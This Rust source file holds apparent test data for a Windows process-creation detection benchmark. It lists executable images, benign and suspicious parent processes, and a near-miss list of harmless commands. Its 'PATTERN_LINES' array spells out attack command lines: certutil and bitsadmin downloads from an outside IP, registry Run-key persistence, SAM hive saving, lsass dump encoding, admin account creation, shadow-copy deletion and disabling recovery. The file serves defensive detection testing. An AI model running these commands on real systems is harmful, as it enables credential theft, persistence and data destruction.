//! The generator's catalogue: executable images, parents, and command lines
//! (true positives per pattern, benign ones and near misses).
//!
//! Shared by the benchmark's generator and the core's fast-path test (both
//! declare it as a module named `catalog` beside `gen`).

/// One executable image: what Defender reports about it.
pub struct Image {
    /// `FileName`
    pub name: &'static str,
    pub folder: &'static str,
    pub company: &'static str,
    pub product: &'static str,
    pub version: &'static str,
    pub description: &'static str,
    pub size: u32,
}

/// The company name of Windows binaries.
pub const MS: &str = "Microsoft Corporation";
/// The product name of Windows binaries.
pub const WINDOWS: &str = "Microsoft® Windows® Operating System";

const fn img(
    name: &'static str,
    folder: &'static str,
    company: &'static str,
    product: &'static str,
    version: &'static str,
    description: &'static str,
    size: u32,
) -> Image {
    Image {
        name,
        folder,
        company,
        product,
        version,
        description,
        size,
    }
}

/// The shell.
pub const CMD: Image = img(
    "cmd.exe",
    r"C:\Windows\System32\cmd.exe",
    MS,
    WINDOWS,
    "10.0.19041.4355",
    "Windows Command Processor",
    289_792,
);

/// Children that are not the shell.
pub const CHILDREN: [Image; 12] = [
    img(
        "svchost.exe",
        r"C:\Windows\System32\svchost.exe",
        MS,
        WINDOWS,
        "10.0.19041.4355",
        "Host Process for Windows Services",
        55_320,
    ),
    img(
        "conhost.exe",
        r"C:\Windows\System32\conhost.exe",
        MS,
        WINDOWS,
        "10.0.19041.4355",
        "Console Window Host",
        862_208,
    ),
    img(
        "chrome.exe",
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        "Google LLC",
        "Google Chrome",
        "124.0.6367.119",
        "Google Chrome",
        3_124_576,
    ),
    img(
        "msedge.exe",
        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        MS,
        "Microsoft Edge",
        "124.0.2478.80",
        "Microsoft Edge",
        4_021_112,
    ),
    img(
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        MS,
        WINDOWS,
        "10.0.19041.3996",
        "Windows PowerShell",
        452_608,
    ),
    img(
        "reg.exe",
        r"C:\Windows\System32\reg.exe",
        MS,
        WINDOWS,
        "10.0.19041.1",
        "Registry Console Tool",
        73_216,
    ),
    img(
        "rundll32.exe",
        r"C:\Windows\System32\rundll32.exe",
        MS,
        WINDOWS,
        "10.0.19041.3636",
        "Windows host process (Rundll32)",
        71_680,
    ),
    img(
        "taskhostw.exe",
        r"C:\Windows\System32\taskhostw.exe",
        MS,
        WINDOWS,
        "10.0.19041.4355",
        "Host Process for Windows Tasks",
        99_328,
    ),
    img(
        "git.exe",
        r"C:\Program Files\Git\cmd\git.exe",
        "The Git Development Community",
        "Git",
        "2.45.1.1",
        "Git for Windows",
        45_320,
    ),
    img(
        "OneDrive.exe",
        r"C:\Users\Public\AppData\Local\Microsoft\OneDrive\OneDrive.exe",
        MS,
        "Microsoft OneDrive",
        "24.086.0428.0003",
        "Microsoft OneDrive",
        3_660_104,
    ),
    img(
        "WmiPrvSE.exe",
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        MS,
        WINDOWS,
        "10.0.19041.3996",
        "WMI Provider Host",
        496_640,
    ),
    img(
        "certutil.exe",
        r"C:\Windows\System32\certutil.exe",
        MS,
        WINDOWS,
        "10.0.19041.3996",
        "CertUtil.exe",
        1_335_296,
    ),
];

/// Parents that are not suspicious (including near misses of suspicious names).
pub const PARENTS: [Image; 9] = [
    img(
        "explorer.exe",
        r"C:\Windows\explorer.exe",
        MS,
        WINDOWS,
        "10.0.19041.4355",
        "Windows Explorer",
        5_423_104,
    ),
    img(
        "services.exe",
        r"C:\Windows\System32\services.exe",
        MS,
        WINDOWS,
        "10.0.19041.4355",
        "Services and Controller app",
        720_272,
    ),
    img(
        "svchost.exe",
        r"C:\Windows\System32\svchost.exe",
        MS,
        WINDOWS,
        "10.0.19041.4355",
        "Host Process for Windows Services",
        55_320,
    ),
    img(
        "msiexec.exe",
        r"C:\Windows\System32\msiexec.exe",
        MS,
        WINDOWS,
        "5.0.19041.3636",
        "Windows® installer",
        66_048,
    ),
    img(
        "CcmExec.exe",
        r"C:\Windows\CCM\CcmExec.exe",
        MS,
        "System Center Configuration Manager",
        "5.0.9122.1000",
        "Host Process for Microsoft Configuration Manager",
        2_104_320,
    ),
    img(
        "cmd.exe",
        r"C:\Windows\System32\cmd.exe",
        MS,
        WINDOWS,
        "10.0.19041.4355",
        "Windows Command Processor",
        289_792,
    ),
    img(
        "mywinword.exe",
        r"C:\Tools\mywinword.exe",
        "Contoso",
        "Contoso Tools",
        "1.2.0.0",
        "Word automation helper",
        120_832,
    ),
    img(
        "winwordupdate.exe",
        r"C:\Program Files\Contoso\winwordupdate.exe",
        "Contoso",
        "Contoso Tools",
        "3.1.0.7",
        "Updater",
        88_064,
    ),
    img("excel.exe2", r"C:\Temp\excel.exe2", "", "", "", "", 4_096),
];

/// Suspicious parents (the rule's list), with realistic paths.
pub const BAD_PARENTS: [Image; 9] = [
    img(
        "WINWORD.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        MS,
        "Microsoft Office",
        "16.0.17531.20152",
        "Microsoft Word",
        1_626_464,
    ),
    img(
        "EXCEL.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        MS,
        "Microsoft Office",
        "16.0.17531.20152",
        "Microsoft Excel",
        64_521_576,
    ),
    img(
        "POWERPNT.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\POWERPNT.EXE",
        MS,
        "Microsoft Office",
        "16.0.17531.20152",
        "Microsoft PowerPoint",
        1_878_368,
    ),
    img(
        "OUTLOOK.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        MS,
        "Microsoft Outlook",
        "16.0.17531.20152",
        "Microsoft Outlook",
        43_415_400,
    ),
    img(
        "mshta.exe",
        r"C:\Windows\System32\mshta.exe",
        MS,
        "Internet Explorer",
        "11.00.19041.1",
        "Microsoft (R) HTML Application host",
        13_312,
    ),
    img(
        "wscript.exe",
        r"C:\Windows\System32\wscript.exe",
        MS,
        WINDOWS,
        "5.812.10240.16384",
        "Microsoft ® Windows Based Script Host",
        163_840,
    ),
    img(
        "cscript.exe",
        r"C:\Windows\System32\cscript.exe",
        MS,
        WINDOWS,
        "5.812.10240.16384",
        "Microsoft ® Console Based Script Host",
        143_872,
    ),
    img(
        "rundll32.exe",
        r"C:\Windows\System32\rundll32.exe",
        MS,
        WINDOWS,
        "10.0.19041.3636",
        "Windows host process (Rundll32)",
        71_680,
    ),
    img(
        "regsvr32.exe",
        r"C:\Windows\System32\regsvr32.exe",
        MS,
        WINDOWS,
        "10.0.19041.1",
        "Microsoft(C) Register Server",
        25_088,
    ),
];

/// One command line per suspicious pattern (same order as the rule's list).
pub const PATTERN_LINES: [&str; 22] = [
    r"cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/p.b64 C:\Users\Public\p.b64",
    r"cmd /c certutil -decode C:\Users\Public\p.b64 C:\Users\Public\p.exe",
    r"cmd /c certutil -encode C:\Windows\Temp\lsass.dmp C:\Windows\Temp\l.txt",
    r"cmd /c bitsadmin /transfer job1 /download /priority high http://198.51.100.7/a.exe %TEMP%\a.exe",
    r"cmd /c bitsadmin /create backdoor",
    r"cmd.exe /c reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d C:\ProgramData\upd.exe /f",
    r"cmd /c reg delete HKLM\SOFTWARE\Policies\Microsoft\Windows Defender /f",
    r"cmd /c reg save HKLM\SAM C:\Windows\Temp\sam.save",
    r#"cmd /c schtasks /create /tn "Updater" /tr "C:\ProgramData\upd.exe" /sc onlogon /ru SYSTEM"#,
    r#"cmd /c schtasks /change /tn "\Microsoft\Windows\Defrag\ScheduledDefrag" /disable"#,
    r"cmd.exe /c net user /add svc_backup P@ssw0rd!",
    r"cmd /c net localgroup administrators svc_backup /add",
    r#"cmd /c wmic process call create "C:\ProgramData\upd.exe""#,
    r"cmd /c wmic shadowcopy delete /nointeractive",
    r"cmd.exe /c vssadmin delete shadows /all /quiet",
    r"cmd /c bcdedit /set {default} recoveryenabled No",
    r"cmd /c icacls /grant Everyone:F C:\ProgramData\upd.exe",
    r"cmd /c takeown /f C:\Windows\System32\sethc.exe",
    r"cmd /c echo | set /p=MZ > C:\Users\Public\x.exe",
    r#"cmd /c for /f "tokens=*" %i in ('dir /b C:\Users') do echo %i"#,
    r"cmd /c ping -n 1 -w 3000 10.10.10.10 > nul & del C:\ProgramData\upd.exe",
    r"cmd /c type C:\Windows\Temp\beacon.bin > \\pipe\spoolss_x",
];

/// `cmd.exe` command lines that match nothing (several are near misses).
pub const BENIGN_SHELL_LINES: [&str; 16] = [
    r#"C:\WINDOWS\system32\cmd.exe /c ""C:\Program Files\Contoso\Agent\collect.cmd" /quiet""#,
    r#""C:\WINDOWS\system32\cmd.exe" /c "C:\Program Files\Git\cmd\git.exe" status --porcelain"#,
    r"cmd /c dir C:\Users\Public /s /b",
    r"cmd.exe /c echo %PATH%, %TEMP%, %USERNAME%",
    r"cmd /c ping -n 4 10.0.0.1",
    r"cmd /c net user bob",
    r"cmd /c preg add HKCU\Software\Contoso /v x",
    r"cmd /c reg  add HKCU\Software\Contoso /v x",
    r"cmd /c certutil -urlcachex -f http://intranet/x",
    r"cmd /c schtasks /query /fo LIST /v",
    r"cmd /c vssadmin list shadows",
    r"cmd /c bcdedit /enum",
    r"cmd /c takeown /fx C:\Temp\x",
    r"cmd /c echo | set /p x",
    r"cmd /c forfiles /p C:\Logs /d -7 /c @del",
    r#"cmd /c "C:\Program Files (x86)\Contoso, Inc\run.bat" --mode=nightly,full"#,
];
